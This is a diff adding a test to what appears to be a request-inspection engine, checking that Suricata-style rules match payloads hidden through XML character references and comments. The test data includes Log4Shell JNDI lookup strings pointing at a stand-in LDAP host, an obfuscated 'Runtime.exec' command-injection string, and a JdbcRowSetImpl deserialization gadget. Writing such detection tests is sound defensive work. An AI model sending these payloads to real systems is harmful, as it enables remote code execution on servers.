@@ -53,6 +53,22 @@ describe('decoded views: a content hidden in a decoded form', () => {
     expect(inspection.targets[hit.targetIndex].name).toBe('expr');
   });
 
+  it('matches XML text and an attribute spelled with character references as xml, and not plain XML twice', () => {
+    const xmlPost = (body: string): RawRequest => request('POST', '/soap', [['Content-Type', 'text/xml']], body);
+    const jndi = 'http.request_body; content:"${jndi:ldap://"; sid:2;';
+    const text = xmlPost('<Envelope><Body><user>&#x24;&#x7b;jndi:ldap://x.example/a}</user></Body></Envelope>');
+    const [onText] = gateFor(`${SURICATA} (${jndi})`, 'suricata').evaluate(buildInspection(text)).hits;
+    expect(onText).toMatchObject({ buffer: 'clientBody', decoded: 'xml', offset: 0 });
+    const attribute = xmlPost('<Envelope><Body><user name="&#36;{jndi:ldap://x.example/a}"/></Body></Envelope>');
+    expect(gateFor(`${SURICATA} (${jndi})`, 'suricata').evaluate(buildInspection(attribute)).hits[0]).toMatchObject({ decoded: 'xml' });
+    // A comment inside a word is dropped as the application's text content drops it.
+    expect(hits(rule, xmlPost(`<a>Runtime.getRun<!-- x -->time().exec("id")</a>`))[0]).toMatchObject({ decoded: 'xml' });
+    // Spelled plainly, the text is in the body buffer already: one hit there, no view made for it.
+    const plain = buildInspection(xmlPost('<Envelope><user>${jndi:ldap://x.example/a}</user></Envelope>'));
+    expect(plain.targets.some((t) => t.unescaped !== undefined)).toBe(false);
+    expect(gateFor(`${SURICATA} (${jndi})`, 'suricata').evaluate(plain).hits).toEqual([expect.not.objectContaining({ decoded: expect.anything() })]);
+  });
+
   it('shows a JSON body written with escapes whole, so a content spanning key and value matches', () => {
     const body = '{"\\u0040type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://x.example/a"}';
     const inspection = buildInspection(jsonPost(body));
